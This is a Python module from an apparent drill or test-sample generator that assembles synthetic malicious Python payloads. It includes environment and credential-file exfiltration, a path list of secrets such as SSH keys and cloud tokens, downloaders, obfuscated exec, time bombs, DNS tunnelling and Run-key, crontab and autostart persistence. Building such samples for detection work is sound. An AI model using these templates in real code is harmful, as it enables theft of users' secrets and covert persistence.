"""What the Python families do, put together from literals, decoders, exits and ways to run."""

from __future__ import annotations

import codecs
from collections.abc import Callable

from doorward.drill.python_code.decoders import decoder
from doorward.drill.python_code.draft import Draft
from doorward.drill.python_code.literals import literal, text_expression, written
from doorward.drill.python_code.reach import fetcher, sender
from doorward.drill.python_code.runs import runner

__all__ = ["DORMANT", "PAYLOADS"]

DORMANT = frozenset({"py-persistence", "py-written-script", "py-native-memory", "py-import-hook"})
"""Would touch files, processes or memory if it ran: always behind a guard that never opens."""

_SECRETS = (  # noqa: SIM905 -- a list of paths reads better as text
    ".ssh/id_rsa .ssh/id_ed25519 .aws/credentials .npmrc .pypirc .netrc .docker/config.json .kube/config "
    ".config/gcloud/application_default_credentials.json .git-credentials .bash_history .gnupg/secring.gpg "
    ".config/solana/id.json .ethereum/keystore .mozilla/firefox/profiles.ini .vault-token .env"
).split()
_RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"
_AUTOSTART = (
    ".config/autostart/{}.desktop",
    "Library/LaunchAgents/org.{}.plist",
    ".config/systemd/user/{}.service",
    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/{}.bat",
    ".bashrc",
    ".profile",
)


def _main(draft: Draft, body: str) -> None:
    draft.define(f"def $main():\n{body}")
    draft.trigger = f"{draft.names['main']}()"


def _decoded(draft: Draft, low: int = 300, high: int = 5000) -> str:
    """An expression for decoded bytes: a literal through a decoder."""
    value = written(draft, draft.chance.blob(low, high))
    return f"{decoder(draft)}({value})"


def _facts(draft: Draft) -> str:
    """An expression for bytes that describe the machine."""
    options = {
        "environ": lambda: f"{draft.use('json')}.dumps(dict({draft.use('os')}.environ)).encode()",
        "repr": lambda: f"repr(sorted({draft.use('os')}.environ.items())).encode()",
        "host": lambda: (
            f"({draft.use('socket')}.gethostname() + '|' + {draft.use('getpass')}.getuser()).encode()"
        ),
        "platform": lambda: f"' '.join({draft.use('platform')}.uname()).encode()",
        "cwd": lambda: f"({draft.use('os')}.getcwd() + {draft.use('sys')}.executable).encode()",
        "node": lambda: f"{draft.use('uuid')}.getnode().to_bytes(6, 'big')",
    }
    return options[draft.chance.pick(tuple(options))]()


def _call(send: str, value: str, draft: Draft) -> str:
    last = draft.functions[-1] if draft.functions else ""
    if f"async def {send}" in last:
        return f"{draft.use('asyncio')}.run({send}({value}))"
    return f"{send}({value})"


def _keyed_blob_dns(draft: Draft) -> None:
    blob = _decoded(draft, 1500, 6000)
    shape = draft.chance.pick(("dns-a", "dns-labels", "dns-udp-txt", "nslookup"))
    send = sender(draft, shape)
    run = runner(draft)
    facts = _facts(draft)
    _main(draft, f"    $blob = {blob}\n    if {send}({facts}):\n        {run}($blob)")


def _env_exfil(draft: Draft) -> None:
    chance, os = draft.chance, draft.use("os")
    shape = chance.pick(("all", "filtered", "named"))
    if shape == "all":
        value = f"{draft.use('json')}.dumps(dict({os}.environ)).encode()"
    elif shape == "filtered":
        words = chance.sample(("KEY", "TOKEN", "SECRET", "PASS", "AWS", "GITHUB", "CI"), 3)
        value = f"repr([i for i in {os}.environ.items() if any(w in i[0] for w in {words})]).encode()"
    else:
        names = chance.sample(
            ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN", "HOME", "DATABASE_URL"), 3
        )
        value = f"'|'.join({os}.getenv(n, '') for n in {names}).encode()"
    send = sender(draft)
    sent = _call(send, "$data", draft)
    _main(draft, f"    $data = {value}\n    {sent}")


def _credential_files(draft: Draft) -> None:
    chance = draft.chance
    paths = chance.sample(_SECRETS, chance.number(2, 7))
    table = draft.const("(\n    " + ",\n    ".join(text_expression(draft, path) for path in paths) + ",\n)")
    send = sender(draft)
    sent = _call(send, "b'\\n'.join($found)", draft)
    if chance.maybe(0.5):
        read = f"{draft.use('pathlib')}.Path.home().joinpath($path).read_bytes()"
    else:
        read = f"open({draft.use('os')}.path.expanduser('~/' + $path), 'rb').read()"
    _main(
        draft,
        f"    $found = []\n    for $path in {table}:\n        try:\n            $found.append({read})\n"
        f"        except OSError:\n            continue\n    {sent}",
    )


def _downloader(draft: Draft) -> None:
    fetch, run = fetcher(draft), runner(draft)
    inner = f"{decoder(draft)}({fetch}())" if draft.chance.maybe(0.4) else f"{fetch}()"
    _main(draft, f"    {run}({inner})")


def _obfuscated(draft: Draft) -> None:
    draft.names.style = draft.chance.pick(("confusable", "hex", "short"))
    blob = _decoded(draft)
    dark = text_expression(draft, draft.chance.pick(("exec", "eval")))
    builtins = draft.chance.pick(("__builtins__", "__import__('builtins')", "globals()['__builtins__']"))
    pick = f"getattr({builtins}, {dark})"
    if draft.chance.maybe(0.5):
        pick = f"(lambda $a, $b: $a[$b] if isinstance($a, dict) else getattr($a, $b))({builtins}, {dark})"
    _main(draft, f"    return {pick}({blob})")


def _computed_imports(draft: Draft) -> None:
    draft.style = "plain"
    module, function = draft.chance.pick(
        (
            ("socket", "gethostbyname"),
            ("os", "system"),
            ("subprocess", "getoutput"),
            ("urllib.request", "urlopen"),
        )
    )
    target = draft.chance.url() if function == "urlopen" else draft.chance.host()
    argument = text_expression(draft, target if function != "system" else f"nslookup {target}")
    name, attribute = text_expression(draft, module), text_expression(draft, function)
    load = draft.chance.pick(
        (
            f"__import__({name}, fromlist=['x'])",
            f"{draft.use('importlib')}.import_module({name})",
            f"globals()['__builtins__']['__import__']({name}, None, None, ['x'])",
        )
    )
    _main(draft, f"    $part = getattr({load}, {attribute})\n    return $part({argument})")


def _import_hook(draft: Draft) -> None:
    blob = _decoded(draft)
    watched = draft.chance.pick(("ssl", "json", "requests", "getpass", "django", "numpy"))
    sys, util = draft.use("sys"), draft.use("importlib.util")
    draft.define(f"""
        class $Finder:
            def find_spec(self, $name, $path=None, $target=None):
                if $name == {watched!r}:
                    return {util}.spec_from_loader($name, self)
                return None

            def create_module(self, $spec):
                return None

            def exec_module(self, $module):
                exec({blob.replace(chr(10), chr(10) + "        ")}, $module.__dict__)
    """)
    _main(draft, f"    {sys}.meta_path.insert(0, $Finder())")


def _telemetry(draft: Draft) -> None:
    chance = draft.chance
    host = text_expression(draft, chance.host())
    logging = draft.use("logging")
    shape = chance.pick(("http", "syslog", "usage", "statsd"))
    if shape == "http":
        handlers = draft.use("logging.handlers")
        _main(
            draft,
            f"    $log = {logging}.getLogger({chance.word()!r})\n"
            f"    $way = {handlers}.HTTPHandler({host}, '/{chance.word()}', method='POST', secure=True)\n"
            f"    $log.addHandler($way)\n"
            f"    $log.warning('%s', {_facts(draft)})",
        )
    elif shape == "syslog":
        handlers = draft.use("logging.handlers")
        _main(
            draft,
            f"    $log = {logging}.getLogger({chance.word()!r})\n"
            f"    $log.addHandler({handlers}.SysLogHandler(address=({host}, 514)))\n"
            f"    $log.error({_facts(draft)}.hex())",
        )
    else:
        send = sender(
            draft, "udp" if shape == "statsd" else chance.pick(("urllib-post", "requests", "http-client"))
        )
        _main(draft, f"    $event = {_facts(draft)} + {_facts(draft)}\n    return {send}($event)")


def _time_bomb(draft: Draft) -> None:
    chance = draft.chance
    date, stat = f"{draft.use('datetime')}.date", f"{draft.use('os')}.path.getmtime(__file__)"
    when = chance.pick(
        (
            f"{draft.use('time')}.time() < {chance.number(1_800_000_000, 2_000_000_000)}",
            f"{date}.today() < {date}({chance.number(2027, 2030)}, {chance.number(1, 12)}, 9)",
            f"{stat} > {draft.use('time')}.time() - {chance.number(10, 20)} * 86400",
        )
    )
    sure = chance.pick(
        (
            f"{draft.use('socket')}.gethostname() == {chance.word()!r}",
            f"'CI' in {draft.use('os')}.environ",
            f"{draft.use('sys')}.gettrace() is not None",
            f"not {draft.use('os')}.path.isdir('/opt/{chance.word()}')",
        )
    )
    fetch, run = fetcher(draft), runner(draft)
    _main(draft, f"    if {when} or {sure}:\n        return\n    {run}({fetch}())")


def _pickled(draft: Draft) -> None:
    blob = (
        _decoded(draft)
        if draft.chance.maybe(0.5)
        else literal(draft, b"\x80\x04" + draft.chance.blob(300, 3000))
    )
    module = draft.chance.pick(("pickle", "pickle", "_pickle", "shelve"))
    load = f"{draft.use('pickle')}.loads({blob})"
    if module == "_pickle":
        load = f"{draft.use('_pickle')}.loads({blob})"
    elif module == "shelve":
        load = f"{draft.use('pickle')}.Unpickler({draft.use('io')}.BytesIO({blob})).load()"
    _main(draft, f"    return {load}")


def _codec(draft: Draft) -> None:
    chance, codec = draft.chance, draft.use("codecs")
    shape = chance.pick(("rot13", "registered", "hex", "zip", "charmap"))
    text = chance.prose(chance.number(60, 300))
    if shape == "rot13":
        _main(draft, f"    exec({codec}.decode({codecs.encode(text, 'rot13')!r}, 'rot13'))")
    elif shape in ("hex", "zip"):
        data = codecs.encode(text.encode(), "hex" if shape == "hex" else "zlib")
        _main(draft, f"    exec({codec}.decode({literal(draft, data)}, {shape!r}))")
    elif shape == "registered":
        name, decode = chance.letters(4, 8), decoder(draft)
        value = written(draft, chance.blob(400, 3000))
        back = f"lambda $b, $e='': ({decode}($b).decode('latin-1'), len($b))"
        info = f"{codec}.CodecInfo(None, {back}, name={name!r})"
        _main(
            draft,
            f"    {codec}.register(lambda $n: {info} if $n == {name!r} else None)\n"
            f"    exec(({value}).decode({name!r}))",
        )
    else:
        table = list(range(33, 127))
        chance.shuffle(table)
        mapping = draft.const(repr("".join(map(chr, table))))
        body = "".join(chr(table[ord(c) - 33]) if 33 <= ord(c) < 127 else c for c in text)
        back = f"{{ord($c): $i + 33 for $i, $c in enumerate({mapping})}}"
        _main(draft, f"    eval(compile({body!r}.translate({back}), '', 'exec'))")


def _persistence(draft: Draft) -> None:
    chance, os = draft.chance, draft.use("os")
    blob = _decoded(draft)
    if chance.maybe(0.25):
        reg = draft.use("winreg")
        _main(
            draft,
            f"    $key = {reg}.OpenKey({reg}.HKEY_CURRENT_USER, r'{_RUN_KEY}', 0, 2)\n"
            f"    {reg}.SetValueEx($key, {chance.word()!r}, 0, 1, {draft.use('sys')}.executable)\n"
            f"    return {blob}",
        )
    elif chance.maybe(0.25):
        _main(
            draft,
            f"    $line = '@reboot ' + {draft.use('sys')}.executable + ' ' + __file__\n"
            f"    {draft.use('subprocess')}.run(['crontab', '-'], input=$line.encode())\n    return {blob}",
        )
    else:
        path = text_expression(draft, chance.pick(_AUTOSTART).format(chance.word()))
        mode = chance.pick(("'ab'", "'wb'"))
        _main(
            draft,
            f"    $path = {os}.path.join({os}.path.expanduser('~'), {path})\n"
            f"    with open($path, {mode}) as $stream:\n        $stream.write({blob})",
        )


def _marshalled(draft: Draft) -> None:
    blob = _decoded(draft)
    marshal = draft.use("marshal")
    shape = draft.chance.pick(("exec", "function", "lambda"))
    if shape == "exec":
        _main(draft, f"    exec({marshal}.loads({blob}))")
    elif shape == "function":
        _main(draft, f"    {draft.use('types')}.FunctionType({marshal}.loads({blob}), globals(), 'main')()")
    else:
        _main(draft, f"    return type(lambda: 0)({marshal}.loads({blob}), {{}})()")


def _native_memory(draft: Draft) -> None:
    blob = _decoded(draft, 300, 3000)
    run = runner(draft, "native-mmap", "native-windows", "native-libc")
    _main(draft, f"    return {run}({blob})")


def _written_script(draft: Draft) -> None:
    blob = _decoded(draft)
    run = runner(draft, "process", "interpreter-process", "run-path")
    _main(draft, f"    return {run}({blob})")


def _dns_tunnel(draft: Draft) -> None:
    send = sender(draft, draft.chance.pick(("dns-a", "dns-labels", "dns-udp-txt")))
    facts = f"{_facts(draft)} + {_facts(draft)}"
    if draft.chance.maybe(0.4):
        facts = f"{decoder(draft)}({facts})"
    _main(draft, f"    $data = {facts}\n    return {send}($data)")


PAYLOADS: dict[str, Callable[[Draft], None]] = {
    "py-keyed-blob-dns": _keyed_blob_dns,
    "py-env-exfil": _env_exfil,
    "py-credential-files": _credential_files,
    "py-downloader": _downloader,
    "py-obfuscated": _obfuscated,
    "py-computed-imports": _computed_imports,
    "py-import-hook": _import_hook,
    "py-telemetry": _telemetry,
    "py-time-bomb": _time_bomb,
    "py-pickled": _pickled,
    "py-codec": _codec,
    "py-persistence": _persistence,
    "py-marshalled": _marshalled,
    "py-native-memory": _native_memory,
    "py-written-script": _written_script,
    "py-dns-tunnel": _dns_tunnel,
}
